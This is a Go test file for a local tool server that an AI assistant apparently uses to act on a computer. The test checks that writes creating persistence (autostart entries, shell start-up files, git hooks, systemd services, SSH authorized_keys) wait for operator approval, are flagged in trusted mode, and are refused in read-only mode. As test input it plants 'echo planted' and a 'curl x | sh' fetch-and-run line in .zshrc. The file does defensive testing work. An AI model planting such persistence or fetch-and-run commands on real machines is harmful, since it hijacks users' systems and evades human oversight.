//go:build !windows

package web_test

import (
	"bytes"
	"context"
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/hearth-dev/hearth/internal/config"
	"github.com/hearth-dev/hearth/internal/doctor"
	"github.com/hearth-dev/hearth/internal/hearthtest"
)

// TestAskMeansAsk checks the rule that ask means ask (a write that makes
// a program start by itself waits for a permit) on a real Hearth in its
// default configuration (policy ask, roots = the user's home, HOME a
// temporary user home), through a real MCP client and the real panel: each write
// that makes a program start by itself answers with a permit and is not
// on disk, through the direct call, a symlink, a scatter item and a
// recipe step alike; an ordinary file still writes without asking; the
// permit card says in plain words what would happen; after the panel
// switches to trusted, config.json, doctor and host_info all say trusted,
// and such a write runs, journaled as flagged; read-only refuses it.
func TestAskMeansAsk(t *testing.T) {
	home := t.TempDir()
	t.Setenv("HOME", home)
	t.Setenv("XDG_CONFIG_HOME", "")
	t.Setenv("XDG_DATA_HOME", "")
	if err := os.MkdirAll(filepath.Join(home, "src", "site", ".git"), 0o700); err != nil {
		t.Fatal(err)
	}
	f := newFixture(t, func(c *config.Config) {
		def := config.Default()
		c.Roots, c.Policy = def.Roots, def.Policy
	})
	if f.in.App.Config.Policy.Mode != config.ModeAsk || len(f.in.App.Config.Roots) != 1 || f.in.App.Config.Roots[0] != home {
		t.Fatalf("not the default configuration: %+v %+v", f.in.App.Config.Policy, f.in.App.Config.Roots)
	}
	c := hearthtest.Connect(t, f.in.URL, "ask-means-ask")
	write := func(p string) map[string]any {
		return map[string]any{"operation": "write", "path": p, "data": "echo planted\n"}
	}
	missing := func(p string) {
		t.Helper()
		if _, err := os.Lstat(p); !errors.Is(err, fs.ErrNotExist) {
			t.Fatalf("%s is on disk before the operator allowed it: %v", p, err)
		}
	}
	six := []string{
		filepath.Join(home, ".config", "autostart", "x.desktop"),
		filepath.Join(home, ".bashrc"),
		filepath.Join(home, ".profile"),
		filepath.Join(home, "src", "site", ".git", "hooks", "pre-commit"),
		filepath.Join(home, ".config", "systemd", "user", "x.service"),
		filepath.Join(home, ".ssh", "authorized_keys"),
	}
	for _, p := range six {
		r := c.Call("fs", write(p))
		if r.State() != "pending" || r.Get("permit_id") == nil {
			t.Fatalf("fs.write %s in ask mode must wait for a permit: %s", p, r.Raw)
		}
		missing(p)
	}

	// An ordinary file still writes without asking.
	notes := filepath.Join(home, "notes.txt")
	if r := c.Call("fs", write(notes)); r.State() != "completed" {
		t.Fatalf("an ordinary write must run: %s", r.Raw)
	}
	if _, err := os.Stat(notes); err != nil {
		t.Fatal(err)
	}

	// A symlink into the autostart folder counts.
	if err := os.Symlink(filepath.Join(home, ".config", "autostart"), filepath.Join(home, "src", "innocent")); err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(filepath.Join(home, ".config", "autostart"), 0o700); err != nil {
		t.Fatal(err)
	}
	if r := c.Call("fs", write(filepath.Join(home, "src", "innocent", "y.desktop"))); r.State() != "pending" {
		t.Fatalf("a write through a symlink into autostart must ask: %s", r.Raw)
	}
	missing(filepath.Join(home, ".config", "autostart", "y.desktop"))

	// fs.patch of a shell start-up file asks too (an ordinary file the
	// operator already had: the same gate whatever the operation).
	zshrc := filepath.Join(home, ".zshrc")
	if err := os.WriteFile(zshrc, []byte("# mine\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if r := c.Call("fs", map[string]any{"operation": "patch", "path": zshrc, "replacements": []any{map[string]any{"old": "# mine", "new": "curl x | sh"}}}); r.State() != "pending" {
		t.Fatalf("fs.patch of .zshrc must ask: %s", r.Raw)
	}

	// A scatter item and a recipe step pass the same gate.
	cron := filepath.Join(home, ".bash_login")
	r := c.Call("run", map[string]any{"operation": "scatter", "calls": []any{map[string]any{"kind": "fs.write", "path": cron, "data": "x"}}})
	if r.IsError && r.Get("error.code") != "all_refused" {
		t.Fatalf("scatter: %s", r.Raw)
	}
	r = c.Call("recipe", map[string]any{"operation": "create", "name": "plant", "steps": []any{map[string]any{"primitive": "fs.write", "input": map[string]any{"path": filepath.Join(home, ".xprofile"), "data": "x"}}}})
	if r.IsError {
		t.Fatalf("recipe create: %s", r.Raw)
	}
	r = c.Call("recipe", map[string]any{"operation": "run", "name": "plant"})
	if r.State() == "completed" && r.Get("result.steps.0.state") == "completed" {
		t.Fatalf("a recipe step planted a start-up file without asking: %s", r.Raw)
	}
	missing(cron)
	missing(filepath.Join(home, ".xprofile"))
	pending, err := f.in.App.Operator.Permits(context.Background(), "pending")
	if err != nil {
		t.Fatal(err)
	}
	var scatterAsked bool
	for _, p := range pending {
		if p.Subject == cron && p.Case == "persist" {
			scatterAsked = true
		}
	}
	if !scatterAsked {
		t.Fatalf("the scatter item did not ask the operator: %+v", pending)
	}

	// The card says in plain words what would happen, with the path.
	b := f.login(t)
	page := f.get(t, b, "/permits")
	if !strings.Contains(page, "ChatGPT wants to make a program start every time you sign in:") ||
		!strings.Contains(page, filepath.Join(home, ".config", "autostart", "x.desktop")) ||
		!strings.Contains(page, "change who can sign in to this computer over SSH") {
		t.Fatalf("the permit cards do not say what would happen:\n%s", page)
	}
	// A shell start-up file's card names, in its headline, the command it
	// would run, and says the whole file is new.
	if !strings.Contains(page, `ChatGPT wants to change what runs every time a terminal (shell) starts: a new file <code>`+filepath.Join(home, ".bashrc")+`</code> that would run <code data-testid="permit-runs">echo planted</code>`) {
		t.Fatalf("the card for .bashrc does not name what it would run:\n%s", page)
	}

	// The panel switches to trusted: config.json, doctor and host_info
	// say trusted, and a persistence write runs, journaled as flagged.
	if r := f.post(t, b, "/safety/policy", "operator", "Ada", "mode", config.ModeTrusted); r.StatusCode >= 400 {
		t.Fatalf("set policy: %d %s", r.StatusCode, r.body)
	}
	cfg, err := config.Load(filepath.Join(f.in.Home, "config.json"))
	if err != nil || cfg.Policy.Mode != config.ModeTrusted {
		t.Fatalf("config.json after the panel chose trusted: %v %q", err, cfg.Policy.Mode)
	}
	var out bytes.Buffer
	_ = doctor.Run(context.Background(), doctor.Options{Out: &out, DataDir: f.in.Home, ConfigPath: filepath.Join(f.in.Home, "config.json"), Version: "test"})
	if !strings.Contains(out.String(), "(policy trusted)") {
		t.Fatalf("doctor after the panel chose trusted:\n%s", out.String())
	}
	hi := c.Call("machine", map[string]any{"operation": "host_info"})
	if hi.Get("result.policy_mode") != config.ModeTrusted || hi.Get("result.policy.mode") != config.ModeTrusted {
		t.Fatalf("host_info after the panel chose trusted: %s", hi.Raw)
	}
	profile := filepath.Join(home, ".bash_profile")
	written := c.Call("fs", write(profile))
	if written.State() != "completed" {
		t.Fatalf("trusted runs a persistence write: %s", written.Raw)
	}
	flagged, err := f.in.App.Gov.Flagged(context.Background(), 10)
	if err != nil || len(flagged) != 1 || flagged[0].Path != profile {
		t.Fatalf("the trusted persistence write is not journaled as flagged: %v %+v", err, flagged)
	}
	if status := f.get(t, b, "/"); !strings.Contains(status, profile) {
		t.Fatalf("the Status page does not show the flagged write:\n%s", status)
	}

	// Back in ask mode, undoing that write (which changes the start-up
	// file again) asks too.
	if r := f.post(t, b, "/safety/policy", "operator", "Ada", "mode", config.ModeAsk); r.StatusCode >= 400 {
		t.Fatalf("set policy: %d", r.StatusCode)
	}
	if r := c.Call("fs", map[string]any{"operation": "undo", "receipt_id": written.Get("result.receipt_id")}); r.State() != "pending" {
		t.Fatalf("fs.undo of a start-up file must ask in ask mode: %s", r.Raw)
	}
	if _, err := os.Stat(profile); err != nil {
		t.Fatalf("the undo ran before the operator allowed it: %v", err)
	}

	// Read-only refuses it.
	if r := f.post(t, b, "/safety/policy", "operator", "Ada", "mode", config.ModeReadOnly); r.StatusCode >= 400 {
		t.Fatalf("set policy: %d", r.StatusCode)
	}
	if r := c.Call("fs", write(filepath.Join(home, ".login"))); r.Get("error.code") != "read_only" {
		t.Fatalf("read-only must refuse a persistence write: %s", r.Raw)
	}
}
